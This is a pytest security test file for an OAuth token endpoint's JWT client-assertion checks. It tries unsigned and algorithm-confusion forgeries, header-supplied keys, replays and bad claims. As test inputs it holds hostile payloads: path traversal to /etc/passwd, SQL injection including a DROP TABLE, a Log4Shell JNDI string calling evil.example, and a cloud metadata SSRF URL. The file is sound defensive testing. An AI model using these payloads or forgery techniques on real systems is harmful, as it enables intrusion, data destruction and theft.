"""Attacks with client assertions: unsigned, signed by the wrong key, played again, or meant for elsewhere."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from gateway.auth.registration import disable_client, register_client
from tests.oauth.backend import Backend, ec_key, public_jwk, rsa_key, sign
from tests.security.forging import hmac_signed, parts, unsigned
from tests.security.house import House, refused
from tests.security.key_server import attackers_server


@pytest.fixture(scope="module")
def backend(house: House) -> Backend:
    return house.backend()


def send(
    house: House, backend: Backend, assertion: str | None = None, **form: str | None
) -> requests.Response:
    return requests.post(
        f"{house.base}/auth/token", data=backend.form(assertion=assertion, **form), timeout=30
    )


def no_use(house: House, backend: Backend, assertion: str) -> None:
    """Assert that an assertion authenticates nobody, wherever a client may authenticate."""
    refused(send(house, backend, assertion), "invalid_client")
    for path in ("/auth/introspect", "/auth/revoke"):
        form = backend.form(assertion=assertion, grant_type=None, scope=None, token="x")
        refused(requests.post(house.base + path, data=form, timeout=30), "invalid_client")


def taken(house: House, backend: Backend, **how: Any) -> None:
    answer = send(house, backend, backend.assertion(**how))
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize("algorithm", ["none", "None", "nOnE", "", None])
def test_an_unsigned_assertion_is_refused(house: House, backend: Backend, algorithm: str | None) -> None:
    header = {"alg": algorithm, "typ": "JWT", "kid": "k1"}
    for signature in ("", "AA", backend.assertion().rpartition(".")[2]):
        no_use(house, backend, unsigned(backend.claims(), header, signature))
    taken(house, backend)


def test_a_public_key_is_no_shared_secret(house: House, backend: Backend) -> None:
    public = backend.keys["k1"].public_key()
    info = serialization.PublicFormat.SubjectPublicKeyInfo
    secrets = [
        public.public_bytes(serialization.Encoding.PEM, info),
        public.public_bytes(serialization.Encoding.DER, info),
        json.dumps(backend.jwks()["keys"][0]).encode(),
        b"",
    ]
    for secret in secrets:
        for algorithm in ("HS256", "HS384", "HS512"):
            header = {"alg": algorithm, "typ": "JWT", "kid": "k1"}
            no_use(house, backend, hmac_signed(backend.claims(), secret, header))
    taken(house, backend)


def test_only_rs384_and_es384_are_taken(house: House) -> None:
    keys = {"rsa": rsa_key(), "p384": ec_key(), "p256": ec.generate_private_key(ec.SECP256R1())}
    backend = Backend(f"{house.base}/auth/token", keys=keys)
    register_client(house.services.database, backend.metadata())
    for kid, algorithm in (
        ("rsa", "RS256"),
        ("rsa", "RS512"),
        ("rsa", "PS256"),
        ("rsa", "PS384"),
        ("p256", "ES256"),
    ):
        no_use(house, backend, sign(backend.claims(), keys[kid], algorithm, {"kid": kid}))
    # The algorithm of one key with the id of another.
    no_use(house, backend, sign(backend.claims(), keys["rsa"], "RS384", {"kid": "p384"}))
    no_use(house, backend, sign(backend.claims(), keys["p384"], "ES384", {"kid": "rsa"}))
    taken(house, backend, kid="rsa")
    taken(house, backend, kid="p384")


def test_a_key_that_the_assertion_brings_along_is_not_looked_at(house: House, backend: Backend) -> None:
    attacker = Backend(backend.token_url, client_id=backend.client_id)
    own = public_jwk(attacker.keys["k1"], "k1")
    with attackers_server() as server:
        server.answers["/jwks.json"] = attacker.jwks()
        for brought in (
            {"jwk": own},
            {"jwk": {**own, "kid": "other"}, "kid": "other"},
            {"x5c": ["MIIB"]},
            {"x5u": server.url()},
            {"x5t": "x"},
            {"jwk": own, "jku": server.url(), "x5u": server.url()},
        ):
            no_use(house, backend, attacker.assertion(header=brought))
        assert server.asked == []
    taken(house, backend, header={"jwk": own})


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "k1' OR '1'='1",
        "k1'; DROP TABLE pdmp.client; --",
        "${jndi:ldap://evil.example/x}",
        "http://169.254.169.254/",
        "k" * 10_000,
        "k" * 201,
        "K1",
        " k1",
        "k1\x00",
        "",
        None,
        1,
        ["k1"],
        {"k1": 1},
    ],
)
def test_a_key_id_is_an_opaque_text(house: House, backend: Backend, kid: Any) -> None:
    header = {"alg": "ES384", "typ": "JWT", "kid": kid}
    signature = backend.assertion().rpartition(".")[2]
    no_use(house, backend, unsigned(backend.claims(), header, signature))
    assert "k" * 100 not in house.log()
    taken(house, backend)


def test_an_assertion_is_good_once_at_whatever_endpoint(house: House, backend: Backend) -> None:
    first, second = backend.assertion(), backend.assertion()
    assert send(house, backend, first).status_code == 200
    no_use(house, backend, first)
    form = backend.form(assertion=second, grant_type=None, scope=None, token="x")
    assert requests.post(f"{house.base}/auth/introspect", data=form, timeout=30).status_code == 200
    no_use(house, backend, second)
    # The same jti in another assertion is a replay, of another client it is none.
    jti = parts(first)[1]["jti"]
    no_use(house, backend, backend.assertion(jti=jti))
    other = house.backend()
    taken(house, other, jti=jti)
    # Kept in the database until it ends: no restart and no lost cache forgets it.
    ((kept,),) = house.as_owner(
        "SELECT count(*) FROM client_assertion WHERE client_id = %(id)s AND expires_at > now()",
        id=other.client_id,
    )
    assert kept == 1


@pytest.mark.parametrize(
    "changes",
    [
        {"jti": None},
        {"jti": ""},
        {"jti": 7},
        {"jti": "x" * 5000},
        {"exp": None},
        {"exp": "soon"},
        {"exp": -1},
        {"exp": 10**15},
        {"aud": None},
        {"aud": ""},
        {"aud": []},
        {"aud": "https://evil.example/auth/token"},
        {"aud": "both"},
        {"aud": "fhir"},
        {"iss": None},
        {"sub": None},
        {"iss": "somebody"},
        {"sub": "somebody"},
        {"iss": "' OR 1=1 --", "sub": "' OR 1=1 --"},
        {"iss": "\0", "sub": "\0"},
    ],
)
def test_claims_that_do_not_hold_are_refused(house: House, backend: Backend, changes: dict[str, Any]) -> None:
    named = {"both": [backend.token_url, "https://evil.example"], "fhir": house.fhir}
    made = {
        name: named.get(value, value) if isinstance(value, str) else value for name, value in changes.items()
    }
    no_use(house, backend, backend.assertion(**made))
    taken(house, backend)


def test_an_assertion_holds_for_five_minutes_at_most_and_not_before_its_time(
    house: House, backend: Backend
) -> None:
    now = int(time.time())
    for changes in (
        {"exp": now + 3600},
        {"exp": now + 480},
        {"exp": now - 120},
        {"nbf": now + 200},
        {"iat": now + 200},
    ):
        no_use(house, backend, backend.assertion(**changes))
    taken(house, backend, exp=now + 280, iat=now, nbf=now)


def test_nobody_signs_for_another_client(house: House, backend: Backend) -> None:
    other, app = house.backend(), house.app("client_secret_basic")
    forged = Backend(backend.token_url, client_id=backend.client_id, keys=other.keys)
    no_use(house, backend, forged.assertion())
    # A client with a secret has no keys; one with keys has no secret.
    no_use(house, backend, Backend(backend.token_url, client_id=app.client_id).assertion())
    url = f"{house.base}/auth/token"
    form = {"grant_type": "client_credentials", "scope": "system/MedicationDispense.rs"}
    for auth in ((backend.client_id, ""), (backend.client_id, "x" * 43)):
        refused(requests.post(url, data=form, auth=auth, timeout=30), "invalid_client", 401)
    refused(requests.post(url, data={**form, "client_id": backend.client_id}, timeout=30), "invalid_client")
    # Two ways at once, and two names.
    both = requests.post(url, data=backend.form(), auth=(backend.client_id, "x"), timeout=30)
    refused(both, "invalid_request")
    refused(send(house, backend, client_id=other.client_id), "invalid_client")
    assert send(house, backend, client_id=backend.client_id).status_code == 200


def test_an_unknown_a_disabled_and_a_wrong_client_are_told_alike(house: House, backend: Backend) -> None:
    gone = house.backend()
    disable_client(house.services.database, gone.client_id)
    answers = [
        send(house, gone),
        send(house, Backend(backend.token_url)),
        send(house, backend, Backend(backend.token_url, client_id=backend.client_id).assertion()),
    ]
    assert {(answer.status_code, answer.text) for answer in answers} == {
        (answers[0].status_code, answers[0].text)
    }
    taken(house, backend)
